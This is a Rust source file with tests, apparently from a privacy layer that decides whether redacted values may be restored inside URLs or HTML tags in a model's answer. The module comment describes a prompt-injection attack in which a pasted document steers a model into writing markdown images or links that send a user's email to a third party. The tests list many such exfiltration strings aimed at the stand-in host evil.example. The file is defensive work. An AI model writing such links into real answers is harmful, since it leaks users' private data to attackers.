//! Where in an answer a restored value would end up in a URL or an HTML attribute.
//!
//! A model's answer can be steered (by an injection in a pasted document) to put a placeholder
//! where rendering sends it to a third party: `![x](https://evil.example/?e=[EMAIL_ADDRESS_1])`
//! fetches the image as soon as the answer is shown. [`Lexer`] reads the answer left to right,
//! one character at a time, and knows at every position whether it is inside a URL or a tag:
//! a markdown link or image destination (`](` … `)`), a reference definition (`[id]: url`), an
//! HTML tag or autolink (`<` and a letter … `>`, quotes respected), or a bare URL (a run without
//! whitespace holding `//`, starting with `www.` or a linkified scheme such as `mailto:`, or a
//! dotted host followed by `/`, `?` or `#`). In such a place a value is restored only when the
//! URL read so far has an allowed scheme or an allowed origin ([`UrlRules`]).
//!
//! A tag ends only at its `>` (quoted values may hold one), as in an HTML parser: a stray `<`
//! before a letter (`x<y`) leaves later placeholders as they are until a `>` comes, which is
//! the safe way to be wrong. A link destination also ends at a blank line, as in CommonMark.
//!
//! The lexer looks only backwards, so streaming and whole restores agree: it is fed the answer's
//! own text (placeholders as written), never a restored value.

use super::RestoreOptions;

/// Schemes that linkifiers turn into links without `//` (GFM: `mailto:`, `xmpp:`; others in
/// common markdown and chat renderers). A bare run starting with one of them is a URL.
const OPAQUE_SCHEMES: &[&str] = &[
    "mailto:",
    "tel:",
    "sms:",
    "xmpp:",
    "callto:",
    "facetime:",
    "sip:",
    "sips:",
    "geo:",
    "magnet:",
    "data:",
    "javascript:",
    "vbscript:",
];

/// Longest scheme read (RFC 3986 sets no limit; CommonMark autolinks allow 32).
const MAX_SCHEME: usize = 32;
/// Longest authority read; a longer one is not an allowed origin.
const MAX_AUTHORITY: usize = 255;

/// A scheme, lower-cased, held inline: every word of prose starts one, so no allocation.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct Scheme {
    buf: [u8; MAX_SCHEME],
    len: u8,
}

impl Scheme {
    fn new(c: char) -> Scheme {
        let mut s = Scheme {
            buf: [0; MAX_SCHEME],
            len: 0,
        };
        s.push(c);
        s
    }

    /// Adds an ASCII character; false when full.
    fn push(&mut self, c: char) -> bool {
        let n = usize::from(self.len);
        if n == MAX_SCHEME {
            return false;
        }
        self.buf[n] = c.to_ascii_lowercase() as u8;
        self.len += 1;
        true
    }

    fn as_str(&self) -> &str {
        std::str::from_utf8(&self.buf[..usize::from(self.len)]).unwrap_or("")
    }
}

/// The URL read from the start of the innermost URL context up to the current position.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) enum Url {
    /// Nothing read yet (leading `<`, `(`, quotes and spaces are skipped).
    #[default]
    Fresh,
    /// Reading the scheme.
    Scheme(Scheme),
    /// `scheme:` read.
    Colon(Scheme),
    /// `scheme:/` read.
    Slash(Scheme),
    /// `scheme://` and part of the authority read.
    Authority(Scheme, String),
    /// The authority is complete: scheme and origin (`None` for an opaque URL such as
    /// `mailto:x`, or an authority that is not a plain host: userinfo, odd characters).
    Done(Scheme, Option<String>),
    /// Not a URL the rules can allow (or it ended).
    Bad,
}

impl Url {
    /// Reads one more character. Changes the variant only when the state changes: this runs
    /// for every character of an answer.
    fn feed(&mut self, c: char) {
        let ws = c.is_whitespace();
        match self {
            Url::Fresh if c.is_ascii_alphabetic() => *self = Url::Scheme(Scheme::new(c)),
            Url::Fresh if ws || matches!(c, '<' | '(' | '"' | '\'') => {}
            Url::Scheme(s) if c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.') => {
                if !s.push(c) {
                    *self = Url::Bad;
                }
            }
            Url::Scheme(s) if c == ':' => *self = Url::Colon(*s),
            Url::Colon(s) if c == '/' => *self = Url::Slash(*s),
            Url::Slash(s) if c == '/' => *self = Url::Authority(*s, String::new()),
            Url::Colon(s) | Url::Slash(s) if !ws => *self = Url::Done(*s, None),
            Url::Authority(s, a) if matches!(c, '/' | '?' | '#') => {
                let o = origin(s.as_str(), a);
                *self = Url::Done(*s, o);
            }
            Url::Authority(_, a) if !ws && c != '\\' && a.len() < MAX_AUTHORITY => a.push(c),
            Url::Done(..) if !ws => {}
            Url::Bad => {}
            _ => *self = Url::Bad,
        }
    }

    /// The scheme once it is complete (`scheme:` read).
    fn scheme(&self) -> Option<&str> {
        match self {
            Url::Colon(s) | Url::Slash(s) | Url::Authority(s, _) | Url::Done(s, _) => {
                Some(s.as_str())
            }
            _ => None,
        }
    }
}

/// `scheme://host[:port]` of an authority, lower-cased, default port dropped; `None` when the
/// authority holds userinfo (`allowed.example@evil.example`), percent escapes, non-ASCII or
/// anything else a browser might read differently.
fn origin(scheme: &str, authority: &str) -> Option<String> {
    let a = authority.to_ascii_lowercase();
    let (host, port) = if a.starts_with('[') {
        let close = a.find(']')?;
        let rest = &a[close + 1..];
        if !rest.is_empty() && !rest.starts_with(':') {
            return None;
        }
        (&a[..=close], rest.strip_prefix(':'))
    } else {
        match a.split_once(':') {
            Some((h, p)) => (h, Some(p)),
            None => (a.as_str(), None),
        }
    };
    let host_ok = if let Some(inner) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        !inner.is_empty()
            && inner
                .chars()
                .all(|c| c.is_ascii_hexdigit() || c == ':' || c == '.')
    } else {
        !host.is_empty()
            && host
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
    };
    if !host_ok {
        return None;
    }
    let port = match port {
        None | Some("") => None,
        Some(p) if p.len() <= 5 && p.bytes().all(|b| b.is_ascii_digit()) => {
            let n: u32 = p.parse().ok()?;
            (n <= 65535).then_some(n)?;
            let default = match scheme {
                "http" | "ws" => 80,
                "https" | "wss" => 443,
                "ftp" => 21,
                _ => 0,
            };
            (n != default).then_some(n)
        }
        Some(_) => return None,
    };
    Some(match port {
        Some(p) => format!("{scheme}://{host}:{p}"),
        None => format!("{scheme}://{host}"),
    })
}

/// An allow-listed origin as the app wrote it, normalized like [`origin`]: only
/// `scheme://host[:port]`, optionally with one trailing `/`.
pub(crate) fn normalize_origin(s: &str) -> Option<String> {
    let s = s.strip_suffix('/').unwrap_or(s);
    let mut u = Url::Fresh;
    for c in s.chars().chain(['/']) {
        if matches!(u, Url::Done(..)) {
            // Something after the origin: a path, query or fragment.
            return None;
        }
        u.feed(c);
    }
    match u {
        Url::Done(_, Some(o)) if s.starts_with(|c: char| c.is_ascii_alphabetic()) => Some(o),
        _ => None,
    }
}

/// Which URLs may receive restored values: compiled from [`RestoreOptions`].
#[derive(Clone, Debug, Default)]
pub(crate) struct UrlRules {
    schemes: Vec<String>,
    origins: Vec<String>,
}

impl UrlRules {
    /// The rules of `o`; entries that do not parse are left out (they allow nothing).
    pub(crate) fn new(o: &RestoreOptions) -> UrlRules {
        UrlRules {
            schemes: o
                .url_schemes
                .iter()
                .map(|s| s.trim_end_matches(':').to_ascii_lowercase())
                .collect(),
            origins: o
                .url_origins
                .iter()
                .filter_map(|s| normalize_origin(s))
                .collect(),
        }
    }

    fn allows(&self, u: &Url) -> bool {
        if u.scheme()
            .is_some_and(|s| self.schemes.iter().any(|x| x == s))
        {
            return true;
        }
        matches!(u, Url::Done(_, Some(o)) if self.origins.contains(o))
    }
}

/// Where the lexer is inside an HTML tag.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Tag {
    /// The tag name (or an autolink's URL).
    Name,
    /// Between attributes, or in an attribute name.
    Attr,
    /// After `=`, before the value.
    Eq,
    /// In a value, quoted (with its quote) or not.
    Value(Option<char>),
}

/// A reference definition (`[id]: url`) at the start of a line.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum RefDef {
    /// At the start of a line, after this many spaces.
    LineStart(u8),
    /// In the label.
    Label,
    /// After the label's `]`.
    AfterLabel,
    /// The rest of the line is the destination.
    Dest,
    /// Not a definition line.
    No,
}

/// The answer's structure up to the current position (see the module documentation).
#[derive(Clone, Debug)]
pub(crate) struct Lexer {
    prev: char,
    tag: Option<Tag>,
    /// Parenthesis depth inside a markdown link destination; 0 outside.
    dest: u32,
    refdef: RefDef,
    /// The current whitespace-free run: `//` seen, a `.` seen, and a URL shape found.
    run_dot: bool,
    run_url: bool,
    /// The run's first characters, lower-cased (for `www.` and opaque schemes).
    run_head: String,
    url: Url,
}

impl Default for Lexer {
    fn default() -> Lexer {
        Lexer {
            prev: '\n',
            tag: None,
            dest: 0,
            refdef: RefDef::LineStart(0),
            run_dot: false,
            run_url: false,
            run_head: String::new(),
            url: Url::Fresh,
        }
    }
}

const RUN_HEAD: usize = 12;

impl Lexer {
    /// Reads `s`.
    pub(crate) fn feed_str(&mut self, s: &str) {
        s.chars().for_each(|c| self.feed(c));
    }

    fn reset_run(&mut self) {
        self.run_dot = false;
        self.run_url = false;
        self.run_head.clear();
    }

    fn feed(&mut self, c: char) {
        let prev = std::mem::replace(&mut self.prev, c);
        let blank_line = c == '\n' && prev == '\n';
        // The reference-definition state of the line.
        let before = self.refdef;
        self.refdef = match (before, c) {
            (_, '\n') => RefDef::LineStart(0),
            (RefDef::LineStart(n), ' ') if n < 3 => RefDef::LineStart(n + 1),
            (RefDef::LineStart(_), '[') => RefDef::Label,
            (RefDef::Label, ']') => RefDef::AfterLabel,
            (RefDef::Label, _) => RefDef::Label,
            (RefDef::AfterLabel, ':') => RefDef::Dest,
            (RefDef::Dest, _) => RefDef::Dest,
            _ => RefDef::No,
        };
        if before == RefDef::AfterLabel && self.refdef == RefDef::Dest && self.tag.is_none() {
            // The destination starts after the colon.
            self.url = Url::Fresh;
            return;
        }
        if let Some(tag) = self.tag {
            self.tag = match (tag, c) {
                (Tag::Value(Some(q)), c) if c == q => {
                    self.url = Url::Bad;
                    Some(Tag::Attr)
                }
                (Tag::Value(Some(_)), c) => {
                    self.url.feed(c);
                    Some(tag)
                }
                (_, '>') => {
                    self.url = Url::Fresh;
                    self.reset_run();
                    None
                }
                (Tag::Eq, '"' | '\'') => {
                    self.url = Url::Fresh;
                    Some(Tag::Value(Some(c)))
                }
                (Tag::Eq, c) if c.is_whitespace() => Some(Tag::Eq),
                (Tag::Eq, c) => {
                    self.url = Url::Fresh;
                    self.url.feed(c);
                    Some(Tag::Value(None))
                }
                (Tag::Attr, '=') => Some(Tag::Eq),
                (_, c) if c.is_whitespace() => {
                    self.url = Url::Bad;
                    Some(Tag::Attr)
                }
                (t, c) => {
                    self.url.feed(c);
                    Some(t)
                }
            };
            return;
        }
        if prev == '<' && c.is_ascii_alphabetic() {
            self.tag = Some(Tag::Name);
            self.url = Url::Fresh;
            self.url.feed(c);
            return;
        }
        if self.dest > 0 {
            match c {
                '(' => self.dest += 1,
                ')' => {
                    self.dest -= 1;
                    if self.dest == 0 {
                        self.url = Url::Fresh;
                        self.reset_run();
                        return;
                    }
                }
                '\n' if blank_line => {
                    self.dest = 0;
                    self.url = Url::Fresh;
                    self.reset_run();
                    return;
                }
                _ => {}
            }
            self.url.feed(c);
            return;
        }
        if prev == ']' && c == '(' {
            self.dest = 1;
            self.url = Url::Fresh;
            return;
        }
        if self.refdef == RefDef::Dest {
            self.url.feed(c);
            return;
        }
        // Plain text: bare URLs.
        if c.is_whitespace() {
            self.reset_run();
            self.url = Url::Fresh;
            return;
        }
        if prev == '/' && c == '/' {
            self.run_url = true;
        }
        if self.run_dot && matches!(c, '/' | '?' | '#') {
            self.run_url = true;
        }
        if c == '.' {
            self.run_dot = true;
        }
        if self.run_head.len() < RUN_HEAD {
            self.run_head.push(c.to_ascii_lowercase());
            // `www.` and every opaque scheme end in `.` or `:`: only then is there a match.
            if matches!(c, '.' | ':') {
                let head = self.run_head.trim_start_matches(['(', '<', '"', '\'', '[']);
                if head == "www." || OPAQUE_SCHEMES.contains(&head) {
                    self.run_url = true;
                }
            }
        }
        self.url.feed(c);
    }

    /// Whether a value may be restored at the current position: anywhere outside URLs and
    /// tags, and inside one only where `rules` allow the URL read so far.
    pub(crate) fn allows(&self, rules: &UrlRules) -> bool {
        // Right after a `<`, a token opens a tag or an autolink (`<EMAIL_ADDRESS_1>`).
        let in_url = self.tag.is_some()
            || self.prev == '<'
            || self.dest > 0
            || self.refdef == RefDef::Dest
            || self.run_url;
        !in_url || rules.allows(&self.url)
    }
}

/// Whether the text after a token at `end` makes it part of a host or address
/// (`[X].evil.example`, `[X]@evil.example`): `Some(true)` to leave it, `None` when the
/// characters that decide have not arrived yet (and `at_end` is false).
pub(crate) fn url_follows(hay: &str, end: usize, at_end: bool) -> Option<bool> {
    let mut after = hay[end..].chars();
    match after.next() {
        None if !at_end => None,
        None => Some(false),
        Some('@') => Some(true),
        Some('.') => match after.next() {
            None if !at_end => None,
            Some(c) => Some(c.is_ascii_alphanumeric()),
            None => Some(false),
        },
        Some(_) => Some(false),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whether a value may be restored where `marker` stands in `text`.
    fn at(text: &str, rules: &UrlRules) -> bool {
        let i = text.find('¤').expect("marker");
        let mut l = Lexer::default();
        l.feed_str(&text[..i]);
        l.allows(rules)
    }

    #[test]
    fn urls_and_tags_are_recognised() {
        let none = UrlRules::default();
        for t in [
            "![x](https://evil.example/?e=¤)",
            "[t](https://evil.example/?e=¤)",
            "[t](<https://evil.example/a b?e=¤>)",
            "[t](https://e.example/(a)?e=¤)",
            "x\n[id]: https://evil.example/?e=¤",
            "  [id]: ¤",
            "<https://evil.example/?e=¤>",
            "see https://evil.example/?e=¤",
            "see (//evil.example/¤)",
            "www.evil.example/?e=¤",
            "evil.example/?e=¤",
            "mailto:¤",
            "<img src=\"https://evil.example/?e=¤\">",
            "<img alt=\"a>b\" src='https://evil.example/¤'>",
            "<img src=https://evil.example/?e=¤>",
            "<a title=\"x\"\n\nhref=\"¤\">",
            "x<y and then ¤",
            "<¤>",
            "<img\nsrc=\"x\" data-x=¤>",
        ] {
            assert!(!at(t, &none), "{t}");
        }
        for t in [
            "Hello ¤",
            "[t](https://x.example) ¤",
            "![x](https://x.example)¤",
            "<b>¤</b>",
            "a <https://x.example> ¤",
            "x\n[id]: https://x.example\n¤",
            "[¤](https://x.example)",
            "Email: ¤",
            "1.5/2 ¤",
            "https://x.example/ ¤",
        ] {
            assert!(at(t, &none), "{t}");
        }
    }

    #[test]
    fn allowed_schemes_and_origins() {
        let rules = UrlRules::new(&RestoreOptions {
            url_schemes: vec!["mailto".into(), "tel:".into()],
            url_origins: vec![
                "https://allowed.example".into(),
                "http://x.example:8080/".into(),
            ],
            tool_arguments: false,
        });
        for t in [
            "mailto:¤",
            "[m](mailto:¤)",
            "<a href=\"tel:¤\">",
            "https://allowed.example/?q=¤",
            "[s](https://ALLOWED.example:443/search?q=¤)",
            "http://x.example:8080/¤",
        ] {
            assert!(at(t, &rules), "{t}");
        }
        for t in [
            "https://allowed.example.evil.example/?q=¤",
            "https://allowed.example@evil.example/?q=¤",
            "https://evil.example/https://allowed.example/?q=¤",
            "https://¤.allowed.example/",
            "https://allowed.example¤",
            "http://allowed.example/?q=¤",
            "http://x.example/¤",
            "https://allowed.example:8443/¤",
            "https://allowed.example\\@evil.example/¤",
            "<img alt=\"¤\">",
            "sms:¤",
        ] {
            assert!(!at(t, &rules), "{t}");
        }
        assert_eq!(
            normalize_origin("https://A.example:443"),
            Some("https://a.example".into())
        );
        assert_eq!(normalize_origin("https://a.example/path"), None);
        assert_eq!(normalize_origin("a.example"), None);
        assert_eq!(normalize_origin("https://u@a.example"), None);
    }

    #[test]
    fn what_follows_a_token() {
        assert_eq!(url_follows("X.evil", 1, true), Some(true));
        assert_eq!(url_follows("X@e", 1, true), Some(true));
        assert_eq!(url_follows("X. y", 1, true), Some(false));
        assert_eq!(url_follows("X.", 1, true), Some(false));
        assert_eq!(url_follows("X.", 1, false), None);
        assert_eq!(url_follows("X", 1, false), None);
        assert_eq!(url_follows("X", 1, true), Some(false));
    }
}
